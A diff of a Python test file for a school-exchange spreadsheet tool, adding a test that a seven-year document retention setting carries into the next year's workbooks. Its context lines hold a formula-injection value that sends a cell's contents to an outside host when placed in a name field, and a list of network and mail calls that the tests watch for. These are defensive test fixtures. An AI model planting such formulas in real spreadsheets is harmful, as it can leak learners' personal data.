@@ -26,12 +26,15 @@ from openpyxl.workbook import Workbook
 
 from ecvet_office.cli import ecvet
 from ecvet_office.workbook.building import write_new
+from ecvet_office.workbook.parsing import parse
+from ecvet_office.workbook.reading import read
 from exchange.foreign_files import participants
 
 GIVEN, FAMILY = "Zzyrbella Ümi", "Qwyxaö & O'Nnz"
 NAME = f"{GIVEN} {FAMILY}"
 WORDS = (GIVEN, FAMILY, "zz.qwyx@zq.example", "+999 77 1234567", "Zwickelgasse", "Guardzz Xyloq", "23 November 2006")
 RUNS = '=HYPERLINK("https://school.example/?a="&B2)'  # what somebody may type into a name
+RETENTION_YEARS = 7
 DAY, LATER, MEETING = "2026-04-20", "2026-12-01", "2026-06-12"
 WAYS_OUT = ("socket.connect", "socket.getaddrinfo", "socket.gethostby", "socket.sendto", "urllib.", "http.client",
             "smtplib.", "ftplib.", "webbrowser.", "os.startfile")  # fmt: skip
@@ -81,6 +84,8 @@ def private_plan(folder: Path) -> Path:
     runs = book["Learners"].cell(3, column(book, "Learners", "Family name"))
     runs.value = RUNS
     runs.data_type = "s"
+    years = next(row for row in book["Settings"].iter_rows(max_col=2) if row[0].value == "Retention in years")
+    years[1].value = RETENTION_YEARS
     book["Mobility groups"]["A2"], book["Mobility groups"]["B2"] = "G1", "Class 3b in Lyon"
     accompanying = book["Accompanying persons"]
     accompanying["A2"], accompanying["B2"], accompanying["E2"] = "G1", "H1 · Maija Heino", "yes"
@@ -266,3 +271,9 @@ def test_a_partners_extract_holds_name_and_birth_alone(year: Year) -> None:
     learners = openpyxl.load_workbook(year.folder / "lyon.xlsx")["Learners"]
     filled = {str(learners.cell(1, cell.column).value) for cell in learners[2] if cell.value and cell.data_type != "f"}
     assert filled == {"Id", "Family name *", "Given names *", "Date of birth *", "Qualification *"}
+
+
+def test_the_next_year_keeps_how_long_papers_are_kept(year: Year) -> None:
+    for name in ("plan.xlsx", "next.xlsx", "without.xlsx", "support.xlsx"):
+        register, _ = parse(read(year.folder / name))
+        assert register.settings.retention_years == RETENTION_YEARS, name
